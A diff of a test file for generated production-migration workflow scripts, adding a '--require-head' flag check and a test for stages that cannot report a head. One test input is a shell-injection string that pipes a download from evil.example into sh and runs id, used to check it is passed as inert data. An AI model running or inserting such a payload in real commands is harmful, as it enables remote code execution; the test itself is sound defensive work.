@@ -192,9 +192,26 @@ describe("the scripts, in a real bash", () => {
     const PHRASE = '"; curl evil.example | sh; echo "$(id)';
     const end = await carriedOut(production, { ...asked, PHRASE });
     expect(end.commands).toEqual([
-      [...npx, "prod", `--confirm=${PHRASE}`, "--dry-run", "--out", "/tmp/runner/plan.json"],
+      [
+        ...npx,
+        "prod",
+        `--confirm=${PHRASE}`,
+        "--dry-run",
+        "--out",
+        "/tmp/runner/plan.json",
+        "--require-head",
+      ],
       [...npx, "prod", `--confirm=${PHRASE}`, "--plan", "/tmp/runner/plan.json"],
     ]);
+  });
+
+  test("production: where a head cannot be compared it is not asked for", async () => {
+    const untold = facts([stage("prod", { tellsHead: false }), stage("prod-eu")]);
+    const workflow = workflowsOf(untold)["migrate-production.yml"] ?? "";
+    expect((await carriedOut(workflow, { ...asked, PHRASE: "p" })).commands[0]?.at(-1)).toBe(
+      "/tmp/runner/plan.json",
+    );
+    expect(workflow).not.toMatch(/require-head|is refused/);
   });
 
   test("production: what is asked for is handed on, and the record says who, what and why, whatever they typed", async () => {
